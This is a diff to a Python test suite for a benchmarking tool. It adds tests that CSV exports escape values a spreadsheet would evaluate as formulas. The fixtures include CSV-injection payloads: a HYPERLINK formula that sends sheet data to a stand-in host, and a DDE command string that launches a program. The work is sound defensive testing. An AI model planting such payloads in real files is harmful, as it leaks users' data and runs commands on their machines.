@@ -7,7 +7,8 @@ line, the end reason) is stored as it is and must come out harmless
 everywhere: no raw control character on the terminal (a window title, a
 screen clear), no live HTML in index.html or summary.md, no '|' or line
 break that ends a Markdown table row, no LaTeX command in the .tex files,
-no mathtext formula (which fails the whole report) in a plot.  A store
+no mathtext formula (which fails the whole report) in a plot, no CSV cell
+a spreadsheet would evaluate as a formula.  A store
 written by another program may hold hostile names too (nothing validates
 it on the way in): its report is drawn all the same.
 """
@@ -264,3 +265,80 @@ def test_runs_and_show_escape_a_stored_host(isobench, tmp_path, export):
     p = isobench("runs")
     assert p.returncode == 0 and "box\\x1b]0;owned\\x07" in p.stdout, p.stdout
     _no_raw_control(p, "runs")
+
+
+# Cells a spreadsheet would evaluate (OWASP "CSV injection"): a host name
+# that sends the sheet away when clicked, a reason and a parameter value
+# that compute.
+FORMULA_HOST = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
+FORMULA_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_PARAM = "-2+3"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _formula_export(export):
+    doc = json.loads(json.dumps(export))
+    doc["environment"]["hostname"] = FORMULA_HOST
+    doc["environment"]["cpu_model"] = "+" + FORMULA_HOST[1:]
+    failed = [r for r in _ok_results(doc) if r["mechanism"] == "thread"][-1]
+    failed["status"], failed["reason"] = "failed", FORMULA_REASON
+    _ok_results(doc)[0]["params"]["note"] = FORMULA_PARAM
+    return doc
+
+
+def _no_formula_cells(text, where):
+    """Every cell of a CSV is a number or starts with none of what a
+    spreadsheet reads as a formula; the cells found, by column."""
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows, where
+    for row in rows:
+        for col, cell in row.items():
+            if cell and cell.startswith(FORMULA_START):
+                try:
+                    float(cell)
+                except ValueError:
+                    raise AssertionError(f"{where}: column {col}: {cell!r}") from None
+    return {col: {row[col] for row in rows} for col in rows[0]}
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_text(isobench, tmp_path, export):
+    p = isobench("import", str(_write(tmp_path, _formula_export(export))))
+    assert p.returncode == 0, p.stderr
+    out = tmp_path / "run.csv"
+    p = isobench("export", "2", "--format", "csv", "-o", str(out))
+    assert p.returncode == 0, p.stderr
+    cols = _no_formula_cells(out.read_text(), "export")
+    assert cols["host"] == {"'" + FORMULA_HOST}
+    assert "'" + FORMULA_REASON in cols["reason"]
+    assert any('"note": "-2+3"' in c for c in cols["params"])  # JSON in a cell: '{' first
+    report = tmp_path / "report"
+    p = isobench("report", "2", "-o", str(report), "--format", "csv")
+    assert p.returncode == 0, p.stderr
+    cols = _no_formula_cells((report / "results.csv").read_text(), "report")
+    assert cols["host"] == {"'" + FORMULA_HOST} and cols["cpu_model"] == {"'+" + FORMULA_HOST[1:]}
+    assert "'" + FORMULA_PARAM in cols["note"]
+    # JSON keeps the value exactly.
+    doc, _ = isobench.json("export", "2", "--format", "json")
+    assert doc["environment"]["hostname"] == FORMULA_HOST
+
+
+def test_the_csv_guard_is_what_keeps_formulas_out(isobench, tmp_path, export, monkeypatch):
+    from isobench.measure import validate
+    from isobench.store import export as store_export
+    assert [validate.csv_text(v) for v in ("=1", "+a", "-x", "@f", "\tx", "-3.5", "+7", "ab", "")] \
+        == ["'=1", "'+a", "'-x", "'@f", "'\tx", "-3.5", "+7", "ab", ""]
+    assert validate.csv_text(-3) == -3 and validate.csv_text(None) is None
+    p = isobench("import", str(_write(tmp_path, _formula_export(export))))
+    assert p.returncode == 0, p.stderr
+
+    def written() -> str:
+        buf = io.BytesIO()
+        with Store.open(isobench.db, create=False) as store:
+            store_export.write_csv(store, 2, buf)
+        return buf.getvalue().decode()
+
+    _no_formula_cells(written(), "guarded")
+    # The broken variant: without the guard the host name is a live formula.
+    monkeypatch.setattr(store_export, "csv_text", lambda v: v)
+    with pytest.raises(AssertionError, match="column host: '=HYPERLINK"):
+        _no_formula_cells(written(), "unguarded")
